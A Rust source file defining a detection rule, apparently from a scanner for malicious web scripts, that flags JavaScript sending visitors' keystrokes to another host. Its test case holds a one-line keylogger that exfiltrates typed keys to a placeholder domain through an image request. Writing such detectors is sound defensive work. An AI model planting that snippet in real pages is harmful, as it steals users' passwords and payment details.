//! `keys-sent-abroad`.

use crate::facts::Atom;
use crate::signals::keys::is_logged;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::taint::{Flow, Mark};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "keys-sent-abroad",
    description: "The script sends the keys that visitors press to another host.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::KeysSentAbroad])],
    within: 0,
    only_if: Some(are_typed),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var k='';document.onkeypress=function(e){k+=String.fromCharCode(e.which)};function s(){new Image().src='//c.example/?k='+k}",
        ],
        without: &[
            "let b='';window.onkeypress=e=>{if(e.keyCode==13){$.getJSON('https://door.example/who?tag='+b,function(d){greet(d.name)});b=''}else b+=String.fromCharCode(e.keyCode)}",
            "document.onkeydown=function(e){if(e.keyCode==27)fetch('https://c.example/closed')}",
            "var s=new WebSocket('wss://shell.example/p');screen.onkeypress=function(e){e.preventDefault();s.send(String.fromCharCode(e.which))}",
        ],
    },
};

/// Whether one of the keys that are sent here may be typed into the page.
fn are_typed(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let is_key = |flow: &&Flow| flow.marks.has(Mark::Key) || flow.marks.has(Mark::TypedKey);
    let mut keys = evidence.flows.iter().filter(|flow| flow.at == held.last).filter(is_key).peekable();
    keys.peek().is_none() || keys.any(|flow| is_logged(near, flow))
}
